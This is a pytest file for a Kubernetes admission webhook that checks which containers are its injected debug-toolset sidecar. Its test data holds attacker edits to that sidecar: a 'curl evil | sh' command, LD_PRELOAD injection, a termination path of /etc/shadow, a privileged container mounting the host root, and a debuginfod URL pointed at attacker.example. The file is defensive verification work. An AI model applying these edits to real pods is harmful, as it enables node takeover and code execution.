"""Issue 17 item 3: which containers are our toolset, decided from the pod alone.

Pods are injected by the real pipeline (and `attach`'s builder); each test then changes what an
attacker could write and expects the container to stop being our toolset. A container that
runs the toolset image and does not verify is a violation; so is a status annotation that no
verified toolset backs.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.core_helpers import default_settings, settings_with
from webhook.config import Settings
from webhook.guard import toolset
from webhook.guard.toolset import verify_toolsets
from webhook.inject.attach import attached_name, build_attach_container
from webhook.inject.workloads import inject_workload
from webhook.wire import constants

IMAGE = default_settings().toolset_image  # ghcr.io/sidecar-debug/toolset:0.1.0
SA_VOLUME = {"name": "kube-api-access-x1y2z", "projected": {"sources": [
    {"serviceAccountToken": {"path": "token", "expirationSeconds": 3607}}]}}
SA_MOUNT = {"name": "kube-api-access-x1y2z", "readOnly": True,
            "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}


def app_pod(profile: str = "full", **spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "web", "namespace": "shop",
                     "annotations": {constants.ANNOTATION_PROFILE: profile}},
        "spec": {"containers": [{"name": "app", "image": "registry.example/web:1"}], **spec},
    }


def injected(profile: str = "full", cfg: Settings | None = None, **spec: Any) -> dict[str, Any]:
    """The pod as the webhook injects it (offline inject runs the same pipeline)."""
    result = inject_workload(app_pod(profile, **spec), cfg or default_settings())
    assert result.changed, result.outcomes
    return copy.deepcopy(result.document)


SECCOMP_ANNOTATION = {"Unconfined": "unconfined", "RuntimeDefault": "runtime/default"}


def as_admitted(pod: dict[str, Any]) -> dict[str, Any]:
    """What the apiserver adds before a validating webhook sees the pod: defaults, the
    service account token mount in every container, and (1.19-1.26) the seccomp annotation of
    each container's seccompProfile (tests/e2e/test_guard_core_e2e.py checks this on 1.20)."""
    pod = copy.deepcopy(pod)
    pod["spec"].setdefault("volumes", []).append(SA_VOLUME)
    for kind in ("containers", "initContainers"):
        for container in pod["spec"].get(kind, []):
            seccomp = (container.get("securityContext") or {}).get("seccompProfile")
            if seccomp:
                key = f"container.seccomp.security.alpha.kubernetes.io/{container['name']}"
                pod["metadata"].setdefault("annotations", {})[key] = SECCOMP_ANNOTATION[
                    seccomp["type"]]
            container.setdefault("volumeMounts", []).append(SA_MOUNT)
            container.setdefault("terminationMessagePath", "/dev/termination-log")
            container.setdefault("imagePullPolicy", "IfNotPresent")
            for probe in ("startupProbe", "livenessProbe", "readinessProbe"):
                if probe in container:
                    container[probe].update({"timeoutSeconds": 1, "successThreshold": 1})
    return pod


def sidecar(pod: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any]  # a container of the pod's JSON
    for kind in ("containers", "initContainers"):
        for container in pod["spec"].get(kind, []):
            if container["name"] == "debug-toolset":
                return container
    raise AssertionError("no sidecar")


def verified(pod: dict[str, Any], cfg: Settings | None = None) -> list[tuple[str, str, str]]:
    report = verify_toolsets(pod, cfg or default_settings())
    return [(t.container.kind, t.container.name, t.profile) for t in report.toolsets]


def checks(pod: dict[str, Any], cfg: Settings | None = None) -> set[str]:
    return {v.check for v in verify_toolsets(pod, cfg or default_settings()).violations}


@pytest.mark.parametrize("profile", ["lttng", "perf", "bcc", "full"])
@pytest.mark.parametrize("native", [False, True])
@pytest.mark.parametrize("restart", ["Always", "Never"])
def test_what_the_injector_builds_verifies_as_admitted(
    profile: str, native: bool, restart: str
) -> None:
    cfg = settings_with(native_sidecar=native)
    pod = as_admitted(injected(profile, cfg, restartPolicy=restart))
    kind = "initContainers" if native else "containers"
    assert verified(pod, cfg) == [(kind, "debug-toolset", profile)]
    assert verify_toolsets(pod, cfg).violations == ()
    host = verify_toolsets(pod, cfg).toolsets[0].host_volumes
    assert host == (("sidecar-debug-usr-src", "sidecar-debug-lib-modules")
                    if profile in ("bcc", "full") else ())


def test_the_session_facts_and_the_grant_are_allowed_when_well_formed() -> None:
    pod = injected()
    sidecar(pod)["env"][1:1] = [
        {"name": constants.ENV_SESSION_STARTED, "value": "2026-03-01T10:00:00Z"},
        {"name": constants.ENV_SESSION_DEADLINE, "value": "2026-03-01T12:00:00.5Z"},
    ]
    sidecar(pod)["env"].append({"name": constants.ENV_GRANT, "value": "user:alice"})
    assert verified(pod) == [("containers", "debug-toolset", "full")]


@pytest.mark.parametrize(
    "fact",
    [
        {"name": constants.ENV_SESSION_DEADLINE, "value": "tomorrow"},
        {"name": constants.ENV_SESSION_DEADLINE, "value": "2026-02-30T10:00:00Z"},
        {"name": constants.ENV_SESSION_DEADLINE, "value": "2026-03-01T10:00:00+02:00"},
        {"name": constants.ENV_SESSION_STARTED, "value": 1767225600},
        {"name": constants.ENV_SESSION_STARTED, "valueFrom": {"fieldRef": {"fieldPath": "x"}}},
        {"name": constants.ENV_GRANT, "value": ""},
        {"name": constants.ENV_GRANT, "value": "user:a\nuser:b"},
        {"name": constants.ENV_GRANT, "value": "x" * 600},
    ],
)
def test_malformed_facts_do_not_verify(fact: dict[str, Any]) -> None:
    pod = injected()
    sidecar(pod)["env"].append(fact)
    assert verified(pod) == []
    assert checks(pod) == {toolset.CHECK_IMAGE, toolset.CHECK_STATUS}


def test_a_fact_written_twice_does_not_verify() -> None:
    pod = injected()
    grant = {"name": constants.ENV_GRANT, "value": "user:alice"}
    sidecar(pod)["env"] += [grant, dict(grant)]
    assert verified(pod) == []


def change(path: str, value: Any) -> Any:
    """A change of the injected sidecar at `path` (dots; `+key` appends to a list)."""
    def apply(container: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node: Any = container
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node.setdefault(part, {})
        if last.startswith("+"):
            node.setdefault(last[1:], []).append(value)
        elif isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value
    return apply


@pytest.mark.parametrize(
    ("what", "edit"),
    [
        ("LD_PRELOAD in the env", change("+env", {"name": "LD_PRELOAD", "value": "/tmp/x.so"})),
        ("PATH in the env", change("+env", {"name": "PATH", "value": "/tmp/bin"})),
        ("envFrom", change("+envFrom", {"configMapRef": {"name": "evil"}})),
        ("another profile's env", change("env.0.value", "lttng")),
        ("args", change("+args", "--exec=/tmp/x")),
        ("another command", change("command", ["/bin/sh", "-c", "curl evil | sh"])),
        ("a workingDir", change("workingDir", "/tmp")),
        ("a capability beyond the profile", change("securityContext.capabilities",
                                                   {"add": ["SYS_MODULE"]})),
        ("seLinux spc_t", change("securityContext.seLinuxOptions", {"type": "spc_t"})),
        ("procMount Unmasked", change("securityContext.procMount", "Unmasked")),
        ("a second mount of the host", change("+volumeMounts", {"name": "sidecar-debug-tmp",
                                                               "mountPath": "/host"})),
        ("bidirectional propagation", change("volumeMounts.2.mountPropagation",
                                             "Bidirectional")),
        ("a subPath", change("volumeMounts.0.subPath", "..")),
        ("a writable hostPath", change("volumeMounts.2.readOnly", False)),
        ("a host port", change("+ports", {"containerPort": 22, "hostPort": 22})),
        ("a liveness probe", change("livenessProbe", {"exec": {"command": ["/tmp/x"]}})),
        ("a preStop hook", change("lifecycle", {"preStop": {"exec": {"command": ["x"]}}})),
        ("stdin", change("stdin", True)),
        ("a device", change("+volumeDevices", {"name": "disk", "devicePath": "/dev/sda"})),
        ("resource claims", change("resources.claims", [{"name": "gpu"}])),
        ("a termination message path", change("terminationMessagePath", "/etc/shadow")),
        ("another name", change("name", "debug-toolset-x")),
    ],
)
def test_any_change_an_attacker_makes_to_the_sidecar_unverifies_it(what: str, edit: Any) -> None:
    pod = injected("full")
    edit(sidecar(pod))
    assert verified(pod) == [], what
    assert toolset.CHECK_IMAGE in checks(pod), what


def test_a_hostpath_volume_of_another_path_under_the_profiles_name_does_not_verify() -> None:
    pod = injected("bcc")
    for volume in pod["spec"]["volumes"]:
        if volume["name"] == "sidecar-debug-lib-modules":
            volume["hostPath"] = {"path": "/", "type": ""}
    assert verified(pod) == []
    pod = injected("bcc")
    for volume in pod["spec"]["volumes"]:
        if volume["name"] == "sidecar-debug-usr-src":
            volume["hostPath"]["type"] = "Socket"
    assert verified(pod) == []


@pytest.mark.parametrize(
    "image",
    [
        "ghcr.io/sidecar-debug/toolset:latest",
        "ghcr.io/sidecar-debug/toolset",
        "ghcr.io/sidecar-debug/toolset@sha256:" + "a" * 64,
        "ghcr.io/sidecar-debug/toolset:0.1.0@sha256:" + "b" * 64,
        "GHCR.IO/sidecar-debug/toolset:0.1.0",
        " ghcr.io/sidecar-debug/toolset:0.1.0",
    ],
)
def test_the_toolset_image_is_reserved_by_repository_any_tag_or_digest(image: str) -> None:
    pod = app_pod()
    pod["spec"]["containers"].append({"name": "tools", "image": image,
                                      "command": ["/bin/sh"], "stdin": True})
    assert checks(pod) == {toolset.CHECK_IMAGE}
    [violation] = verify_toolsets(pod, default_settings()).violations
    assert violation.field == "spec.containers[1].image"
    assert "runs the toolset image (ghcr.io/sidecar-debug/toolset)" in violation.message
    assert "it names no debug profile" in violation.message


def test_the_injected_image_swapped_for_another_tag_or_digest_does_not_verify() -> None:
    for image in ("ghcr.io/sidecar-debug/toolset:0.0.1-debug",
                  "ghcr.io/sidecar-debug/toolset@sha256:" + "c" * 64):
        pod = injected()
        sidecar(pod)["image"] = image
        assert verified(pod) == [] and toolset.CHECK_IMAGE in checks(pod)


def test_an_image_the_policy_allows_verifies_only_through_the_callers_predicate() -> None:
    pod = injected()
    sidecar(pod)["image"] = "registry.corp/debug/toolset:2"
    assert verified(pod) == []
    report = verify_toolsets(pod, default_settings(), lambda i: i.startswith("registry.corp/"))
    assert [t.profile for t in report.toolsets] == ["full"]


def test_the_forged_pod_of_the_issue_is_two_violations() -> None:
    """A hand-written privileged `debug-toolset` (hostPath /) and a forged status claiming
    platform-admin's grant: the container is not what the injector builds."""
    pod = app_pod()
    pod["metadata"]["annotations"][constants.ANNOTATION_STATUS] = json.dumps({
        "profile": "full", "grant": "user:platform-admin", "container": "debug-toolset",
        "image": IMAGE, "version": "0.1.0"})
    pod["spec"]["containers"].insert(0, {
        "name": "debug-toolset", "image": IMAGE, "securityContext": {"privileged": True},
        "env": [{"name": constants.ENV_PROFILE, "value": "full"}],
        "volumeMounts": [{"name": "host", "mountPath": "/host"}]})
    pod["spec"]["volumes"] = [{"name": "host", "hostPath": {"path": "/"}}]
    report = verify_toolsets(pod, default_settings())
    assert report.toolsets == ()
    assert [(v.check, v.field) for v in report.violations] == [
        (toolset.CHECK_IMAGE, "spec.containers[0].image"),
        (toolset.CHECK_STATUS, 'metadata.annotations["sidecar-debug.io/status"]'),
    ]


@pytest.mark.parametrize(
    ("status", "problem"),
    [
        ("not json", "not sidecar-debug's status"),
        ('["full"]', "not sidecar-debug's status"),
        ('{"profile": "full"}', 'names no "container"'),
        ('{"profile": "full", "container": "app"}', 'claims container "app"'),
        ('{"profile": "lttng", "container": "debug-toolset"}', 'claims profile "lttng"'),
    ],
)
def test_a_status_no_verified_toolset_backs_is_a_violation(status: str, problem: str) -> None:
    pod = injected("full")
    pod["metadata"]["annotations"][constants.ANNOTATION_STATUS] = status
    [violation] = verify_toolsets(pod, default_settings()).violations
    assert violation.check == toolset.CHECK_STATUS and problem in violation.message


def test_a_standby_status_claims_no_container() -> None:
    pod = app_pod()
    pod["metadata"]["annotations"][constants.ANNOTATION_STATUS] = json.dumps(
        {"mode": "standby", "profile": "perf"})
    assert verify_toolsets(pod, default_settings()).violations == ()


def test_a_second_injected_sidecar_is_refused_even_if_it_is_an_exact_copy() -> None:
    pod = injected("lttng")
    copy_of = copy.deepcopy(sidecar(pod))
    copy_of["name"] = "debug-toolset-2"
    pod["spec"]["containers"].append(copy_of)
    assert verified(pod) == [("containers", "debug-toolset", "lttng")]
    [violation] = verify_toolsets(pod, default_settings()).violations
    assert "already has the injected toolset sidecar" in violation.message


def test_an_init_container_that_is_not_a_native_sidecar_does_not_verify() -> None:
    cfg = settings_with(native_sidecar=True)
    pod = injected("perf", cfg)
    del pod["spec"]["initContainers"][0]["restartPolicy"]
    assert verified(pod, cfg) == []


def attached(pod: dict[str, Any], profile: str, with_security_context: bool = True,
             suffix: str = "a1b2c3") -> dict[str, Any]:
    cfg = default_settings()
    container = build_attach_container(
        pod, cfg, cfg.profiles[profile], name=attached_name(suffix), target="app",
        with_security_context=with_security_context)
    pod.setdefault("spec", {}).setdefault("ephemeralContainers", []).append(container)
    return container


@pytest.mark.parametrize("with_security_context", [True, False])
def test_attached_toolsets_verify_with_or_without_their_security_context(
    with_security_context: bool,
) -> None:
    pod = injected("bcc")
    attached(pod, "perf", with_security_context, "aaaaaa")
    attached(pod, "full", with_security_context, "bbbbbb")["env"].append(
        {"name": constants.ENV_GRANT, "value": "user:alice"})
    assert verified(pod) == [
        ("containers", "debug-toolset", "bcc"),
        ("ephemeralContainers", "debug-toolset-aaaaaa", "perf"),
        ("ephemeralContainers", "debug-toolset-bbbbbb", "full"),
    ]
    full = verify_toolsets(pod, default_settings()).toolsets[2]
    assert full.attached
    assert full.host_volumes == ("sidecar-debug-usr-src", "sidecar-debug-lib-modules")


@pytest.mark.parametrize(
    ("what", "edit"),
    [
        ("kubectl debug's container", lambda c: c["env"].pop()),  # no ATTACHED marker
        ("a target that is no app", lambda c: c.update(targetContainerName="nothing")),
        ("a mount of the host", lambda c: c["volumeMounts"].append(
            {"name": "sidecar-debug-lib-modules", "mountPath": "/lib/modules2"})),
        ("a more privileged securityContext", lambda c: c.update(
            securityContext={"privileged": True})),
        ("tty", lambda c: c.update(tty=True, stdin=True)),
    ],
)
def test_an_ephemeral_toolset_that_is_not_what_attach_builds_is_a_violation(
    what: str, edit: Any
) -> None:
    pod = injected("bcc")
    edit(attached(pod, "perf"))
    assert verified(pod) == [("containers", "debug-toolset", "bcc")], what
    assert checks(pod) == {toolset.CHECK_IMAGE}, what


def test_a_container_claiming_a_profile_with_another_image_is_just_a_container() -> None:
    pod = app_pod()
    pod["spec"]["containers"][0]["env"] = [{"name": constants.ENV_PROFILE, "value": "full"}]
    report = verify_toolsets(pod, default_settings())
    assert report.toolsets == () and report.violations == ()


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=6),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner,
                                                                 max_size=3),
    max_leaves=8,
)
SECURITY_KEYS = ("image", "command", "args", "env", "envFrom", "securityContext",
                 "volumeMounts", "volumeDevices", "lifecycle", "ports")


@given(st.sampled_from([*SECURITY_KEYS, "volumes", "annotations"]), JSON)
@settings(max_examples=300, deadline=None)
def test_any_value_in_any_field_never_raises_and_never_widens(key: str, value: Any) -> None:
    pod = injected("full")
    original = copy.deepcopy(pod)
    if key == "volumes":
        pod["spec"]["volumes"] = value
    elif key == "annotations":
        pod["metadata"]["annotations"] = value
    else:
        sidecar(pod)[key] = value
    report = verify_toolsets(pod, default_settings())
    if report.toolsets and key in SECURITY_KEYS:
        assert sidecar(pod).get(key) == sidecar(original).get(key)


DEBUGINFOD = "https://debuginfod.example"


def test_a_toolset_with_the_settings_debuginfod_verifies_and_a_forged_server_does_not() -> None:
    """The debuginfod servers are the settings', in the injected and the attached toolset; a
    pod's creator who points the toolset at a server of theirs has no verified toolset."""
    cfg = settings_with(debuginfod_urls=DEBUGINFOD)
    pod = as_admitted(injected("perf", cfg))
    attach = build_attach_container(pod, cfg, cfg.profiles["full"], name=attached_name("cccccc"),
                                    target="app")
    pod["spec"].setdefault("ephemeralContainers", []).append(attach)
    assert {"name": "DEBUGINFOD_URLS", "value": DEBUGINFOD} in attach["env"]
    assert verified(pod, cfg) == [("containers", "debug-toolset", "perf"),
                                  ("ephemeralContainers", "debug-toolset-cccccc", "full")]
    for container in (sidecar(pod), attach):
        entry = next(e for e in container["env"] if e["name"] == "DEBUGINFOD_URLS")
        entry["value"] = "http://attacker.example"
    assert verified(pod, cfg) == []
    assert verified(as_admitted(injected("perf", cfg))) == []  # not the settings' env
